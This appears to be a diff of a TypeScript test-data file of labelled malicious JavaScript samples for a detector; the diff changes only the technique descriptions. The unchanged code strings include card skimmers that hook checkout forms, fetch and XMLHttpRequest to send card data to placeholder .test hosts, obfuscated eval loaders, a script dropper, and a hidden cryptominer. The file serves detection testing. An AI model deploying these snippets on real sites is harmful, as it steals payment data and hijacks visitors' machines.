@@ -1,11 +1,11 @@
 import { base64 } from './hiding.ts';
 import type { MaliciousSample } from './malicious-sample.ts';
 
-/** Variations that were written without looking at the features, to see how general those are. */
+/** Further ways, written without a look at the features to see how far these reach. */
 export const variations: readonly MaliciousSample[] = [
   {
     name: 'serialize-form-to-pixel',
-    technique: 'Serializes the payment form into the URL of an image created by jQuery',
+    technique: 'Serializes the payment form into the address of an image made by jQuery',
     family: 'magecart',
     code: `$(function(){$('#co-payment-form').on('submit',function(){var d=$(this).serialize();$('<img>').attr('src','https://px.vary.test/p?'+encodeURIComponent(d)).appendTo('body');});});`,
   },
@@ -17,13 +17,13 @@ export const variations: readonly MaliciousSample[] = [
   },
   {
     name: 'proxy-fetch-hook',
-    technique: 'Replaces fetch and copies bodies with card data',
+    technique: 'Puts itself in the place of fetch and copies bodies with card data',
     family: 'magecart',
     code: `const orig=window.fetch;window.fetch=function(u,o){if(o&&o.body&&/card|cvv/.test(o.body)){navigator.sendBeacon('https://h.vary.test',o.body);}return orig.apply(this,arguments);};`,
   },
   {
     name: 'xhr-hook',
-    technique: 'Replaces XMLHttpRequest.send and copies bodies',
+    technique: 'Puts itself in the place of XMLHttpRequest and copies bodies',
     family: 'magecart',
     code: `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){try{if(location.href.indexOf('checkout')>0)new Image().src='https://hk.vary.test/?'+btoa(b)}catch(e){}return s.call(this,b)};`,
   },
@@ -35,31 +35,31 @@ export const variations: readonly MaliciousSample[] = [
   },
   {
     name: 'jsonp-dropper',
-    technique: 'Builds the URL of a script from character codes in a loop',
+    technique: 'Builds the address of a script from codes in a loop',
     family: 'malware',
     code: `var k=[104,116,116,112,115,58,47,47,106,46,101,118,105,108,46,116,101,115,116,47,97,46,106,115],u='';for(var i in k)u+=String.fromCharCode(k[i]);var n=document.createElement('script');n.setAttribute('src',u);(document.head||document.body).appendChild(n);`,
   },
   {
     name: 'hex-string-decode',
-    technique: 'Decodes a hexadecimal string to the name of a function and its code',
+    technique: 'Decodes hexadecimal text to the name of a function and its code',
     family: 'malware',
     code: `function h2a(h){for(var s='',i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));return s}window[h2a('6576616c')](h2a('616c6572742831292f2f78787878'));`,
   },
   {
     name: 'css-var-loader',
-    technique: 'Reads code from a style sheet',
+    technique: 'Takes code out of a style sheet',
     family: 'malware',
     code: `fetch('https://cdn.vary.test/style.css').then(r=>r.text()).then(c=>{const m=c.match(/content:"(.*?)"/);new Function(atob(m[1]))();});`,
   },
   {
     name: 'image-stego',
-    technique: 'Reads code from the pixels of an image',
+    technique: 'Takes code out of the pixels of an image',
     family: 'malware',
     code: `var c=document.createElement('canvas'),x=c.getContext('2d'),i=new Image();i.crossOrigin='';i.onload=function(){x.drawImage(i,0,0);var d=x.getImageData(0,0,i.width,i.height).data,s='';for(var p=0;p<d.length;p+=4){if(!d[p])break;s+=String.fromCharCode(d[p])}eval(s)};i.src='/logo.png';`,
   },
   {
     name: 'postMessage-eval',
-    technique: 'Runs code that a hidden frame sends',
+    technique: 'Runs what a hidden frame sends',
     family: 'malware',
     code: `window.addEventListener('message',function(e){if(e.data&&e.data.c)(0,eval)(e.data.c)});var f=document.createElement('iframe');f.style.display='none';f.src='https://c.vary.test/';document.body.appendChild(f);`,
   },
@@ -71,7 +71,7 @@ export const variations: readonly MaliciousSample[] = [
   },
   {
     name: 'worker-miner',
-    technique: 'Mines in workers created from an encoded string',
+    technique: 'Mines in workers made of encoded text',
     family: 'cryptomining',
     code: `const W=new Blob([atob('${base64("importScripts('https://x.vary.test/cryptonight.js')")}')]);for(let i=0;i<navigator.hardwareConcurrency;i++){const w=new Worker(URL.createObjectURL(W));w.onmessage=e=>sock.send(JSON.stringify({type:'submit',params:{job_id:e.data.j,nonce:e.data.n,result:e.data.r}}))}const sock=new WebSocket('wss://p.vary.test');`,
   },
@@ -95,7 +95,7 @@ export const variations: readonly MaliciousSample[] = [
   },
   {
     name: 'svg-onload',
-    technique: 'Inserts encoded code into an event handler of an element',
+    technique: 'Puts encoded code into the handler of an element',
     family: 'malware',
     code: `document.body.insertAdjacentHTML('beforeend','<svg onload="'+unescape('%65%76%61%6c%28%61%74%6f%62%28%27%59%51%3d%3d%27%29%29')+'"></svg>');`,
   },
